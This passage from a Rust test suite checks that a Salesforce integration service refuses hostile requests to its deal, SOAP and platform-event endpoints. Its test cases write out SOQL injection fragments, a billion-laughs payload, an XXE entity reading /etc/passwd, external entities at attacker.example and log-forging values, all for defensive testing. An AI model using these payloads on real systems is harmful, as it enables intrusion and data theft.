                for map in ["headers", "multiValueHeaders"] {
                    if let Some(h) = e[map].as_object_mut() {
                        h.remove("Authorization");
                    }
                }
                // REST APIs send every copy in multiValueHeaders and the last one in headers.
                e["headers"]["X-Dealbridge-Signature"] = json!(stale);
                e["multiValueHeaders"]["X-Dealbridge-Signature"] = json!([right, stale]);
                e
            },
            error(
                401,
                "invalid_credentials",
                None,
                "outside the accepted window",
            ),
        ),
        case(
            "a wrong signature next to a valid bearer token",
            {
                let mut e = with_signature(&good, &format!("t={},v1={}", t(), "0".repeat(64)));
                e["headers"]["authorization"] = json!(format!("Bearer {SANDBOX_BEARER_TOKEN}"));
                e
            },
            error(401, "invalid_credentials", None, "does not match"),
        ),
        // Bearer tokens.
        case(
            "a wrong bearer token",
            with_authorization(&good, "Bearer guess"),
            error(
                401,
                "invalid_credentials",
                None,
                "the bearer token is not valid",
            ),
        ),
        case(
            "an empty bearer token",
            with_authorization(&good, "Bearer "),
            error(401, "invalid_credentials", None, "bearer token"),
        ),
        case(
            "an empty Authorization header",
            with_authorization(&good, ""),
            error(401, "invalid_credentials", None, "bearer token"),
        ),
        case(
            "Basic credentials",
            with_authorization(
                &good,
                &format!(
                    "Basic {}",
                    BASE64.encode(format!("user:{SANDBOX_BEARER_TOKEN}"))
                ),
            ),
            error(401, "invalid_credentials", None, "bearer token"),
        ),
        case(
            "the right token under the Basic scheme",
            with_authorization(&good, &format!("Basic {SANDBOX_BEARER_TOKEN}")),
            error(401, "invalid_credentials", None, "bearer token"),
        ),
        case(
            "the right token without a space after Bearer",
            with_authorization(&good, &format!("Bearer{SANDBOX_BEARER_TOKEN}")),
            error(401, "invalid_credentials", None, "bearer token"),
        ),
        case(
            "a prefix of the right token",
            with_authorization(
                &good,
                &format!(
                    "Bearer {}",
                    &SANDBOX_BEARER_TOKEN[..SANDBOX_BEARER_TOKEN.len() - 1]
                ),
            ),
            error(401, "invalid_credentials", None, "bearer token"),
        ),
        case(
            "the right token with a suffix",
            with_authorization(&good, &format!("Bearer {SANDBOX_BEARER_TOKEN}x")),
            error(401, "invalid_credentials", None, "bearer token"),
        ),
        case(
            "the right token in upper case",
            with_authorization(
                &good,
                &format!("Bearer {}", SANDBOX_BEARER_TOKEN.to_uppercase()),
            ),
            error(401, "invalid_credentials", None, "bearer token"),
        ),
        case(
            "the HMAC key as a bearer token",
            with_authorization(&good, &format!("Bearer {SANDBOX_HMAC_KEY}")),
            error(401, "invalid_credentials", None, "bearer token"),
        ),
        // A body that is bad and unauthenticated is refused for its credentials first.
        case(
            "a SOQL fragment without credentials",
            unsigned(&opportunity("006' OR Id != '")),
            error(401, "unauthenticated", None, "no credentials"),
        ),
        // Routes and methods.
        case(
            "GET /v1/deals",
            routed("GET", "/v1/deals"),
            error(405, "method_not_allowed", None, "use POST"),
        ),
        case(
            "PUT /v1/deals",
            routed("PUT", "/v1/deals"),
            error(405, "method_not_allowed", None, "use POST"),
        ),
        case(
            "a path below /v1/deals",
            routed("POST", "/v1/deals/006SB0000000001YAA"),
            error(404, "not_found", None, "no such resource"),
        ),
        case(
            "a path extending /v1/deals",
            routed("POST", "/v1/dealsx"),
            error(404, "not_found", None, "no such resource"),
        ),
        case(
            "another API version",
            routed("POST", "/v2/deals"),
            error(404, "not_found", None, "no such resource"),
        ),
        case(
            "an Outbound Message path without a token",
            routed("POST", "/v1/outbound-messages/"),
            error(404, "not_found", None, "no such resource"),
        ),
        case(
            "an Outbound Message path with two segments",
            routed("POST", "/v1/outbound-messages/sandbox-soap-token/x"),
            error(404, "not_found", None, "no such resource"),
        ),
    ];
    // Every byte position where the valid body could be cut is covered by its own test below; these
    // few are named here so the table shows them.
    for cut in [1, good.len() / 2, good.len() - 1] {
        cases.push(case(
            format!("the valid body cut after {cut} bytes"),
            signed(&good[..cut]),
            bad_request("malformed_json", None, "not valid JSON"),
        ));
    }
    cases
}

#[tokio::test]
async fn hostile_deal_requests_get_their_documented_4xx_and_enqueue_nothing() {
    let stack = LocalStack::start().await.unwrap();
    let cases = deal_cases(&stack);
    assert!(cases.len() >= 100, "{} cases", cases.len());
    run_intake_cases(&stack, cases).await;
}

#[tokio::test]
async fn the_corpus_request_builders_make_requests_the_intake_accepts() {
    // Controls: the builders above only differ from these in the hostile part.
    let stack = LocalStack::start().await.unwrap();
    let good = opportunity(stack.id("VolumeOpportunity").as_str());
    let controls = [
        ("signed", signed(&good), 202),
        (
            "bearer",
            with_authorization(&good, &format!("Bearer {SANDBOX_BEARER_TOKEN}")),
            202,
        ),
        ("base64", base64_body(good.as_bytes(), good.as_bytes()), 202),
        ("signed 300 seconds ago", signed_at(&good, t() - 300), 202),
        ("soap", soap(&sample_soap_body()), 200),
        // Apex `req.setCompressed(true)`: the body is gzip-compressed; the signature covers
        // the JSON Apex set with `setBody`.
        (
            "gzip, as Apex setCompressed(true) sends it",
            compressed_body(&gzip(good.as_bytes()), "gzip", good.as_bytes()),
            202,
        ),
        // An 18-character Id is case-insensitive: its suffix restores the case.
        (
            "a lower-case 18-character Id",
            signed(&opportunity(
                &stack.id("VolumeOpportunity").as_str().to_lowercase(),
            )),
            202,
        ),
    ];
    for (name, event, status) in controls {
        let r = handle(http_request(&event), &stack.intake).await;
        assert_eq!(r.status().as_u16(), status, "{name}: {}", body_text(&r));
    }
    assert!(enqueued(&stack) > 0);
}

#[tokio::test]
async fn the_valid_body_cut_at_every_byte_is_refused_with_400() {
    let stack = LocalStack::start().await.unwrap();
    let good = opportunity(stack.id("VolumeOpportunity").as_str());
    let good = format!(
        r#"{}, "correlationId": "c-1", "dryRun": false}}"#,
        good.trim_end_matches('}')
    );
    assert!(parse_deal_request(good.as_bytes()).is_ok(), "{good}");
    for cut in 0..good.len() {
        let body = &good[..cut];
        let r = handle(http_request(&signed(body)), &stack.intake).await;
        let text = body_text(&r);
        // A prefix of a JSON object is never a JSON object; should one ever be, it must still get a
        // documented answer and never a 5xx.
        assert!(
            r.status().is_client_error(),
            "cut {cut} ({body:?}): {} {text}",
            r.status()
        );
        assert_eq!(r.status(), 400, "cut {cut} ({body:?}): {text}");
        let json: Value = serde_json::from_str(&text).unwrap();
        let code = json["error"]["code"].as_str().unwrap_or_default();
        let expected = if cut == 0 {
            "empty_body"
        } else {
            "malformed_json"
        };
        assert_eq!(code, expected, "cut {cut} ({body:?}): {text}");
    }
    assert_eq!(enqueued(&stack), 0);
    assert_eq!(stack.salesforce.observer().total(), 0);
}

#[tokio::test]
async fn a_body_marked_base64_that_is_not_base64_is_answered_400_from_the_raw_event() {
    // API Gateway sets isBase64Encoded itself and always encodes correctly, so a caller cannot
    // send this; lambda_http's adapter would panic on it. The intake reads the raw event first.
    let stack = LocalStack::start().await.unwrap();
    let mut e = sample("intake-http-api-deal.json");
    e["body"] = json!("not base64 at all!");
    e["isBase64Encoded"] = json!(true);
    let answer = dealbridge_intake::handle_event(e, &stack.intake).await;
    assert_eq!(answer["statusCode"], 400, "{answer}");
    let body: Value = serde_json::from_str(answer["body"].as_str().unwrap()).unwrap();
    assert_eq!(body["error"]["code"], "undecodable_body");
    assert_eq!(answer["headers"]["content-type"], "application/json");
    assert_eq!(enqueued(&stack), 0);
    // The genuine events, HTTP API and REST API, go through the same path.
    for (file, status) in [
        ("intake-http-api-deal.json", 202),
        ("intake-rest-api-legacy.json", 202),
        ("intake-outbound-message.json", 200),
    ] {
        let answer = dealbridge_intake::handle_event(sample(file), &stack.intake).await;
        assert_eq!(answer["statusCode"], status, "{file}: {answer}");
        assert_eq!(answer["isBase64Encoded"], false);
    }
    let answer = dealbridge_intake::handle_event(json!({"not": "a request"}), &stack.intake).await;
    assert_eq!(answer["statusCode"], 400, "{answer}");
}

#[tokio::test]
async fn a_signature_timestamp_near_the_smallest_64_bit_number_is_refused_as_stale() {
    let stack = LocalStack::start().await.unwrap();
    let good = opportunity(stack.id("VolumeOpportunity").as_str());
    let event = with_signature(&good, &format!("t={},v1={}", i64::MIN, "ab".repeat(32)));
    let r = handle(http_request(&event), &stack.intake).await;
    check_answer(
        "t = i64::MIN",
        &error(
            401,
            "invalid_credentials",
            None,
            "outside the accepted window",
        ),
        &r,
    );
    assert_eq!(enqueued(&stack), 0);
}

// ---- POST /v1/outbound-messages/{token} ----

fn outbound_cases(stack: &LocalStack) -> Vec<Case> {
    let sample_body = sample_soap_body();
    let opp = stack.id("VolumeOpportunity").to_string();
    let account = stack.id("VolumeAccount").to_string();
    let order = stack.id("InternetOrder").to_string();
    let one = |sobject: &str, record_id: &str| {
        soap(&soap_message(
            ORG,
            &notification("04lSB0000000009AAA", sobject, record_id),
        ))
    };
    let wrapped = |prefix: &str| soap(&format!("{prefix}{sample_body}"));
    let envelope_open = "<soapenv:Envelope";
    let with_doctype = |doctype: &str| {
        soap(&sample_body.replacen(envelope_open, &format!("{doctype}\n{envelope_open}"), 1))
    };
    let many: String = (1..=101)
        .map(|i| {
            let id = dealbridge::salesforce::SfId::parse(&format!("04lSB{i:010}")).unwrap();
            notification(id.as_str(), "Opportunity", &opp)
        })
        .collect::<Vec<_>>()
        .join("\n");
    vec![
        // Not an Outbound Message at all.
        case(
            "an empty body",
            soap(""),
            client_fault(400, "the body is empty"),
        ),
        case(
            "a body of whitespace",
            soap("  \n"),
            client_fault(400, "the body holds no element"),
        ),
        case(
            "a JSON body",
            soap(&opportunity(&opp)),
            client_fault(400, "text outside the root element"),
        ),
        case(
            "plain text",
            soap("hello"),
            client_fault(400, "not well-formed XML"),
        ),
        case(
            "an XML document that is not a SOAP envelope",
            soap("<notifications/>"),
            client_fault(
                400,
                "expected a SOAP 1.1 Envelope, found <notifications> in no namespace",
            ),
        ),
        case(
            "a SOAP 1.2 envelope",
            soap(&sample_body.replace(
                "http://schemas.xmlsoap.org/soap/envelope/",
                "http://www.w3.org/2003/05/soap-envelope",
            )),
            client_fault(400, "expected a SOAP 1.1 Envelope"),
        ),
        case(
            "an envelope whose prefix is not declared",
            soap(&sample_body.replace(
                " xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"",
                "",
            )),
            client_fault(400, "the namespace prefix soapenv is used"),
        ),
        case(
            "notifications in another namespace",
            soap_replacing(
                "xmlns=\"http://soap.sforce.com/2005/09/outbound\"",
                "xmlns=\"http://soap.sforce.com/2005/09/outbound/evil\"",
            ),
            client_fault(400, "expected <notifications> in namespace"),
        ),
        case(
            "notifications in no namespace",
            soap_replacing("xmlns=\"http://soap.sforce.com/2005/09/outbound\"", ""),
            client_fault(400, "found <notifications> in no namespace"),
        ),
        case(
            "sObject types from the partner namespace",
            soap(&sample_body.replace(
                "urn:sobject.enterprise.soap.sforce.com",
                "urn:sobject.partner.soap.sforce.com",
            )),
            client_fault(400, "whose prefix is bound to urn:sobject.partner"),
        ),
        case(
            "an envelope without a Body",
            soap(
                r#"<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header/></soapenv:Envelope>"#,
            ),
            client_fault(400, "the SOAP Envelope has no Body"),
        ),
        case(
            "a Body without notifications",
            soap(
                r#"<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body/></soapenv:Envelope>"#,
            ),
            client_fault(400, "holds no <notifications>"),
        ),
        case(
            "two Bodies",
            soap_replacing(
                "</soapenv:Body>",
                "</soapenv:Body><soapenv:Body></soapenv:Body>",
            ),
            client_fault(400, "more than one <Body>"),
        ),
        case(
            "text after the root element",
            soap(&format!("{sample_body}trailing")),
            client_fault(400, "text outside the root element"),
        ),
        case(
            "a second root element",
            soap(&format!("{sample_body}<soapenv:Envelope/>")),
            client_fault(400, "second root element"),
        ),
        case(
            "mismatched end tags",
            soap_replacing("</sf:StageName>", "</sf:Stage>"),
            client_fault(400, "not well-formed XML"),
        ),
        case(
            "an attribute value holding <",
            soap_replacing("<ActionId>", "<ActionId a=\"<x\">"),
            client_fault(400, "not well-formed XML"),
        ),
        case(
            "elements nested 40 deep",
            soap_replacing(
                "<ActionId>",
                &format!("{}{}<ActionId>", "<x>".repeat(40), "</x>".repeat(40)),
            ),
            client_fault(400, "nested more than 32 deep"),
        ),
        // Document type declarations and entities.
        case(
            "billion laughs",
            with_doctype(concat!(
                "<!DOCTYPE lolz [<!ENTITY lol \"lol\">",
                "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">",
                "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">",
                "<!ENTITY lol9 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]>"
            )),
            client_fault(400, "declares a DOCTYPE"),
        ),
        case(
            "an external entity reading /etc/passwd",
            soap(
                &sample_body
                    .replacen(
                        envelope_open,
                        &format!(
                            "<!DOCTYPE n [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n{envelope_open}"
                        ),
                        1,
                    )
                    .replacen("Closed Won", "&xxe;", 1),
            ),
            client_fault(400, "document type declarations and entities are refused"),
        ),
        case(
            "an external parameter entity",
            with_doctype(
                "<!DOCTYPE n [<!ENTITY % remote SYSTEM \"http://attacker.example/x.dtd\">%remote;]>",
            ),
            client_fault(400, "declares a DOCTYPE"),
        ),
        case(
            "a DOCTYPE in lower case",
            with_doctype("<!doctype Envelope>"),
            client_fault(400, "declares a DOCTYPE"),
        ),
        case(
            "a DOCTYPE with whitespace after <!",
            with_doctype("<! \n DOCTYPE Envelope>"),
            client_fault(400, "declares a DOCTYPE"),
        ),
        case(
            "a stray ENTITY declaration inside the body",
            soap_replacing("<ActionId>", "<!ENTITY x \"y\"><ActionId>"),
            client_fault(400, "declares a DOCTYPE"),
        ),
        case(
            "a DOCTYPE inside a comment",
            soap_replacing("<ActionId>", "<!-- <!DOCTYPE x> --><ActionId>"),
            client_fault(400, "declares a DOCTYPE"),
        ),
        case(
            "an undeclared entity reference",
            soap_replacing("Closed Won", "&xxe;"),
            client_fault(400, "the undeclared entity &xxe;"),
        ),
        case(
            "an undeclared entity in the SessionId (not quoted back)",
            soap_replacing(
                "<SessionId xsi:nil=\"true\"/>",
                "<SessionId>00DSB!secret&token;</SessionId>",
            ),
            client_fault(400, "reference inside <SessionId>"),
        ),
        case(
            "a processing instruction",
            soap_replacing(
                envelope_open,
                "<?xml-stylesheet href=\"http://attacker.example/x.xsl\"?>\n<soapenv:Envelope",
            ),
            client_fault(400, "processing instruction <?xml-stylesheet"),
        ),
        case(
            "a second XML declaration",
            wrapped("<?xml version=\"1.0\"?>\n"),
            client_fault(400, "processing instruction"),
        ),
        case(
            "an XML declaration naming ISO-8859-1",
            soap_replacing("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\""),
            client_fault(400, "names the encoding ISO-8859-1; only UTF-8"),
        ),
        case(
            "an XML declaration naming UTF-16",
            soap_replacing("encoding=\"UTF-8\"", "encoding=\"UTF-16\""),
            client_fault(400, "only UTF-8"),
        ),
        case(
            "a body that is not UTF-8",
            {
                let mut e = soap("");
                let bytes: Vec<u8> = sample_body
                    .replacen("Closed Won", "Clos\u{e9} Won", 1)
                    .chars()
                    .map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?'))
                    .collect();
                e["body"] = json!(BASE64.encode(bytes));
                e["isBase64Encoded"] = json!(true);
                e
            },
            client_fault(400, "the body is not UTF-8"),
        ),
        case(
            "a character reference to NUL",
            soap_replacing("Closed Won", "&#0;"),
            client_fault(400, "character reference"),
        ),
        case(
            "a raw control character",
            soap_replacing("Closed Won", "Closed\u{1}Won"),
            client_fault(400, "the character U+0001"),
        ),
        // The message's own rules.
        case(
            "101 notifications",
            soap(&soap_message(ORG, &many)),
            client_fault(
                400,
                "the message holds 101 notifications; Salesforce sends at most 100",
            ),
        ),
        case(
            "no notifications",
            soap(&soap_message(ORG, "")),
            client_fault(400, "holds no notifications"),
        ),
        case(
            "two OrganizationIds",
            soap_replacing(
                "<ActionId>",
                "<OrganizationId>00DSB0000000002</OrganizationId><ActionId>",
            ),
            client_fault(400, "more than one <OrganizationId>"),
        ),
        case(
            "no OrganizationId",
            soap_replacing(&format!("<OrganizationId>{ORG}</OrganizationId>"), ""),
            client_fault(400, "the message has no <OrganizationId>"),
        ),
        case(
            "an OrganizationId closing a SOQL literal",
            soap_replacing(ORG, "00D' OR Id != '"),
            client_fault(400, "is not a valid Salesforce Id"),
        ),
        case(
            "an OrganizationId with a wrong checksum",
            soap_replacing(ORG, "00DSB0000000001BAA"),
            client_fault(400, "checksum"),
        ),
        case(
            "an Organization not on the allow-list",
            soap_replacing(ORG, "00DSB0000000002"),
            client_fault(
                403,
                "Organization 00DSB0000000002 is not allowed to send to this endpoint",
            ),
        ),
        case(
            "an Account Id as the OrganizationId",
            soap_replacing(ORG, &account),
            client_fault(403, "is not allowed"),
        ),
        case(
            "a notification without an Id",
            soap_replacing("<Id>04lSB0000000001AAA</Id>", ""),
            client_fault(400, "notification 1 has no <Id>"),
        ),
        case(
            "a notification with an empty Id",
            soap_replacing("<Id>04lSB0000000001AAA</Id>", "<Id> </Id>"),
            client_fault(400, "notification 1 has an empty <Id>"),
        ),
        case(
            "an sObject without xsi:type",
            soap_replacing(" xsi:type=\"sf:Opportunity\"", ""),
            client_fault(400, "has no xsi:type"),
        ),
        case(
            "an xsi:type that is not an object name",
            soap_replacing("sf:Opportunity", "sf:Opp'ty"),
            client_fault(400, "does not name a Salesforce object type"),
        ),
        case(
            "a repeated field",
            soap_replacing(
                "<sf:StageName>",
                &format!("<sf:Id>{opp}</sf:Id><sf:StageName>"),
            ),
            client_fault(400, "has the field Id more than once"),
        ),
        // Notifications dealbridge does not take.
        case(
            "an Account notification",
            one("Account", &account),
            client_fault(
                400,
                "notification 04lSB0000000009AAA is for a Account; dealbridge takes Opportunity and Order notifications",
            ),
        ),
        case(
            "a Lead notification",
            one("Lead", "00QSB0000000001"),
            client_fault(400, "is for a Lead"),
        ),
        case(
            "an Opportunity notification holding a SOQL fragment",
            one("Opportunity", "006' OR Id != '"),
            client_fault(
                400,
                "notification 04lSB0000000009AAA: opportunityId: a Salesforce Id contains only letters and digits",
            ),
        ),
        case(
            "an Order notification holding a SOQL fragment in CDATA",
            one("Order", "<![CDATA[801' OR Name LIKE '%]]>"),
            client_fault(400, "notification 04lSB0000000009AAA: orderId: "),
        ),
        case(
            "an Opportunity notification holding an Account Id",
            one("Opportunity", &account),
            client_fault(400, "is not an Opportunity Id"),
        ),
        case(
            "an Order notification holding an Opportunity Id",
            one("Order", &opp),
            client_fault(400, "is not an Order Id"),
        ),
        case(
            "an Opportunity notification holding an Order Id",
            one("Opportunity", &order),
            client_fault(400, "is not an Opportunity Id"),
        ),
        case(
            "a notification whose Id has a checksum that does not fit it",
            one("Opportunity", &format!("{}BAA", &opp[..15])),
            client_fault(400, "checksum"),
        ),
        case(
            "a notification without the Id field",
            soap_replacing(&format!("<sf:Id>{opp}</sf:Id>"), ""),
            client_fault(400, "add Id to its Fields to Send"),
        ),
        // The notification Id becomes the correlation id and the idempotency key: it is checked
        // like every other Id, so it can neither swell the message nor forge a log line.
        case(
            "a notification Id of 200,000 characters",
            soap_replacing(
                "<Id>04lSB0000000001AAA</Id>",
                &format!("<Id>04l{}</Id>", "A".repeat(199_997)),
            ),
            client_fault(400, "is not a Salesforce Id: a Salesforce Id has 15 or 18 characters"),
        ),
        case(
            "a notification Id with a line break and a forged log line",
            soap_replacing(
                "<Id>04lSB0000000001AAA</Id>",
                "<Id>04lSB0000000001AAA&#13;&#10;INFO forged=1</Id>",
            ),
            client_fault(400, "is not a Salesforce Id"),
        ),
        case(
            "a good notification followed by a bad one",
            soap(&soap_message(
                ORG,
                &format!(
                    "{}\n{}",
                    notification("04lSB0000000001AAA", "Opportunity", &opp),
                    notification("04lSB0000000002AAA", "Opportunity", "006' OR Id != '")
                ),
            )),
            client_fault(400, "notification 04lSB0000000002AAA"),
        ),
        // Who may send.
        case(
            "a wrong URL token",
            soap_with_token("guess"),
            client_fault(401, "the endpoint token is not valid"),
        ),
        case(
            "the URL token in upper case",
            soap_with_token("SANDBOX-SOAP-TOKEN"),
            client_fault(401, "the endpoint token is not valid"),
        ),
        case(
            "a prefix of the URL token",
            soap_with_token("sandbox-soap-toke"),
            client_fault(401, "the endpoint token is not valid"),
        ),
        case(
            "the URL token with a suffix",
            soap_with_token("sandbox-soap-tokenx"),
            client_fault(401, "the endpoint token is not valid"),
        ),
        case(
            "the bearer token as the URL token",
            soap_with_token(SANDBOX_BEARER_TOKEN),
            client_fault(401, "the endpoint token is not valid"),
        ),
        case(
            "a body one byte over 1 MiB",
            {
                let pad = 1024 * 1024 + 1 - sample_body.len();
                let body =
                    sample_body.replacen("Closed Won", &format!("Closed Won{}", " ".repeat(pad)), 1);
                assert_eq!(body.len(), 1024 * 1024 + 1);
                soap(&body)
            },
            client_fault(413, "the limit is 1048576"),
        ),
    ]
}

#[tokio::test]
async fn hostile_outbound_messages_get_soap_faults_and_enqueue_nothing() {
    let stack = LocalStack::start().await.unwrap();
    let cases = outbound_cases(&stack);
    assert!(cases.len() >= 60, "{} cases", cases.len());
    run_intake_cases(&stack, cases).await;
}

#[tokio::test]
async fn the_sample_outbound_message_cut_at_every_byte_is_refused_with_a_fault() {
    let stack = LocalStack::start().await.unwrap();
    let body = sample_soap_body();
    let end = body.rfind("</soapenv:Envelope>").unwrap() + "</soapenv:Envelope>".len();
    for cut in 0..end {
        let r = handle(http_request(&soap(&body[..cut])), &stack.intake).await;
        let text = body_text(&r);
        assert_eq!(r.status(), 400, "cut {cut}: {text}");
        assert_eq!(
            xml_text(&text, "faultcode").as_deref(),
            Some("soapenv:Client"),
            "cut {cut}: {text}"
        );
    }
    assert_eq!(enqueued(&stack), 0);
    assert_eq!(stack.salesforce.observer().total(), 0);
}

// ---- platform events ----

/// What the platform-events function does with an event.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Refusal {
    /// The event does not deserialize as an EventBridge event: the Lambda runtime fails the
    /// invocation before the handler runs.
    NotAnEvent,
    /// The handler refused it with this error (kind, message fragment).
    Error(&'static str, &'static str),
}

fn error_kind(e: &EventError) -> &'static str {
    match e {
        EventError::UnsupportedType(_) => "unsupported_type",
        EventError::NoPayload => "no_payload",
        EventError::MissingOrderId => "missing_order_id",
        EventError::InvalidText { field } => field,
        EventError::InvalidOrderId(_) => "invalid_order_id",
        EventError::Malformed(_) => "malformed",
        EventError::Source(_) => "source",
        EventError::Dispatch(_) => "dispatch",
    }
}

fn platform_event() -> Value {
    sample("platform-events-order-provision.json")
}

fn with_payload(field: &str, value: Value) -> Value {
    let mut e = platform_event();
    e["detail"]["payload"][field] = value;
    e
}

fn without(path: &[&str]) -> Value {
    let mut e = platform_event();
    let (last, parents) = path.split_last().unwrap();
    let mut at = &mut e;
    for p in parents {
        at = &mut at[*p];
    }
    at.as_object_mut().unwrap().remove(*last);
    e
}

fn with(path: &[&str], value: Value) -> Value {
    let mut e = platform_event();
    let mut at = &mut e;
    for p in path {
        at = &mut at[*p];
    }
    *at = value;
    e
}

fn platform_cases(stack: &LocalStack) -> Vec<(String, Value, Refusal)> {
    use Refusal::{Error, NotAnEvent};
    let order = stack.id("InternetOrder").to_string();
    let opp = stack.id("VolumeOpportunity").to_string();
    let rows: Vec<(&str, Value, Refusal)> = vec![
        ("no detail", without(&["detail"]), NotAnEvent),
        ("no detail-type", without(&["detail-type"]), NotAnEvent),
        (
            "a numeric detail-type",
            with(&["detail-type"], json!(42)),
            NotAnEvent,
        ),
        ("no source", without(&["source"]), NotAnEvent),
        (
            "a time that is not a time",
            with(&["time"], json!("yesterday")),
            NotAnEvent,
        ),
        (
            "an event that is an array",
            json!([platform_event()]),
            NotAnEvent,
        ),
        (
            "a null detail",
            with(&["detail"], Value::Null),
            Error("no_payload", "no detail.payload"),
        ),
        (
            "an empty detail",
            with(&["detail"], json!({})),
            Error("no_payload", "no detail.payload"),
        ),
        (
            "a payload that is a string",
            with(&["detail", "payload"], json!(order)),
            Error("no_payload", "no detail.payload"),
        ),
        (
            "a payload that is an array",
            with(&["detail", "payload"], json!([{ "OrderId__c": order }])),
            Error("no_payload", "no detail.payload"),
        ),
        (
            "the payload at the top of detail",
            with(&["detail"], json!({ "OrderId__c": order })),
            Error("no_payload", "no detail.payload"),
        ),
        (
            "a change event",
            with(&["detail-type"], json!("OrderChangeEvent")),
            Error("unsupported_type", "is not OrderProvisionRequested__e"),
        ),
        (
            "the event name in lower case",
            with(&["detail-type"], json!("orderprovisionrequested__e")),
            Error("unsupported_type", "is not OrderProvisionRequested__e"),
        ),
        (
            "an empty detail-type",
            with(&["detail-type"], json!("")),
            Error("unsupported_type", "is not OrderProvisionRequested__e"),
        ),
        (
            "no OrderId__c",
            without(&["detail", "payload", "OrderId__c"]),
            Error("missing_order_id", "OrderId__c is missing"),
        ),
        (
            "a null OrderId__c",
            with_payload("OrderId__c", Value::Null),
            Error("missing_order_id", "OrderId__c is missing"),
        ),
        (
            "a blank OrderId__c",
            with_payload("OrderId__c", json!("   ")),
            Error("missing_order_id", "OrderId__c is missing"),
        ),
        (
            "a numeric OrderId__c",
            with_payload("OrderId__c", json!(801)),
            Error("OrderId__c", "must be text of at most 80 characters"),
        ),
        (
            "an OrderId__c array",
            with_payload("OrderId__c", json!([order])),
            Error("OrderId__c", "must be text"),
        ),
        (
            "an OrderId__c object",
            with_payload("OrderId__c", json!({ "Id": order })),
            Error("OrderId__c", "must be text"),
        ),
        (
            "a boolean OrderId__c",
            with_payload("OrderId__c", json!(true)),
            Error("OrderId__c", "must be text"),
        ),
        (
            "a 10 KB OrderId__c",
            with_payload("OrderId__c", json!("8".repeat(10_240))),
            Error("OrderId__c", "at most 80 characters"),
        ),
        (
            "an OrderId__c closing a SOQL literal",
            with_payload("OrderId__c", json!("801' OR Id != '")),
            Error("invalid_order_id", "only letters and digits"),
        ),
        (
            "an OrderId__c followed by a comment",
            with_payload("OrderId__c", json!(format!("{order}' --"))),
            Error("invalid_order_id", "15 or 18 characters"),
        ),
        (
            "an OrderId__c with a Cyrillic letter",
            with_payload("OrderId__c", json!(order.replacen('B', "\u{0412}", 1))),
            Error("invalid_order_id", "only letters and digits"),
        ),
        (
            "an OrderId__c with a wrong checksum",
            with_payload("OrderId__c", json!(format!("{}BAA", &order[..15]))),
            Error("invalid_order_id", "checksum"),
        ),
        (
            "an Opportunity Id as OrderId__c",
            with_payload("OrderId__c", json!(opp)),
            Error("invalid_order_id", "is not an Order Id"),
        ),
        // Only the configured Salesforce event sources are taken.
        (
            "a source of another Organization",
            with(
                &["source"],
                json!("aws.partner/salesforce.com/00DSB0000000002/0YLSB0000000001AAA"),
            ),
            Error("source", "SALESFORCE_ORG_IDS does not list"),
        ),
        (
            "a source that is not Salesforce",
            with(&["source"], json!("evil.example")),
            Error("source", "not a Salesforce partner event source"),
        ),
        (
            "a source forging a log line",
            with(
                &["source"],
                json!("aws.partner/salesforce.com/00DSB0000000001/0YL\nlevel=ERROR"),
            ),
            Error("source", "not a Salesforce partner event source"),
        ),
    ];
    rows.into_iter()
        .map(|(name, event, refusal)| (name.to_string(), event, refusal))
        .collect()
}

#[tokio::test]
async fn hostile_platform_events_are_refused_by_name_and_enqueue_nothing() {
    let stack = LocalStack::start().await.unwrap();
    let cases = platform_cases(&stack);
    assert!(cases.len() >= 30, "{} cases", cases.len());
    for (name, event, expected) in cases {
        eprintln!("case: {name}");
        let parsed = serde_json::from_value::<EventBridgeEvent<Value>>(event);
        match (&expected, parsed) {
            (Refusal::NotAnEvent, Err(_)) => {}
            (Refusal::NotAnEvent, Ok(e)) => panic!("{name}: deserialized: {e:?}"),
            (Refusal::Error(..), Err(e)) => panic!("{name}: does not deserialize: {e}"),
            (Refusal::Error(kind, says), Ok(event)) => {
                let e = dealbridge_platform_events::handle(event, &stack.platform_events)
                    .await
                    .err()
                    .unwrap_or_else(|| panic!("{name}: dispatched"));
                assert_eq!(error_kind(&e), *kind, "{name}: {e}");
                let message = e.to_string();
                assert!(message.contains(says), "{name}: {message}");
                assert!(message.len() <= 300, "{name}: {message}");
            }
        }
        assert_eq!(enqueued(&stack), 0, "{name}: something was enqueued");
        assert_eq!(
            stack.salesforce.observer().total(),
            0,
            "{name}: Salesforce was called"
        );
    }
}

#[tokio::test]
async fn malformed_optional_platform_event_fields_are_ignored_not_fatal() {
    // The rule (docs/salesforce-setup.md): an IdemKey__c or CorrelationId__c that is not 1 to 80
    // characters of the kind dealbridge takes is ignored, with a log line; the Order is still
    // provisioned, under a generated correlation id and without an idempotency key.
    for (field, value) in [
        ("IdemKey__c", json!(1)),
        ("IdemKey__c", json!("k".repeat(10_240))),
        ("IdemKey__c", json!("key\nlevel=ERROR")),
        ("CorrelationId__c", json!("a b")),
        ("CorrelationId__c", json!("c\nlevel=ERROR")),
        ("CorrelationId__c", json!("c".repeat(81))),
        ("CorrelationId__c", json!({})),
    ] {
        let stack = LocalStack::start().await.unwrap();
        let event = with_payload(field, value.clone());
        let id = event["id"].as_str().unwrap().to_string();
        let event: EventBridgeEvent<Value> = serde_json::from_value(event).unwrap();
        dealbridge_platform_events::handle(event, &stack.platform_events)
            .await
            .unwrap_or_else(|e| panic!("{field} = {value}: {e}"));
        let sent = stack.queue.sent(QueueName::WhmcsProvision);
        assert_eq!(sent.len(), 1, "{field} = {value}");
        let envelope: Value = serde_json::from_str(&sent[0].body).unwrap();
        if field == "CorrelationId__c" {
            assert_eq!(envelope["correlationId"], format!("pe-{id}"), "{value}");
        } else {
            assert!(envelope["idempotencyKey"].is_null(), "{value}: {envelope}");
        }
    }
}

#[tokio::test]
async fn a_platform_event_with_a_duplicate_key_is_refused_from_its_raw_text() {
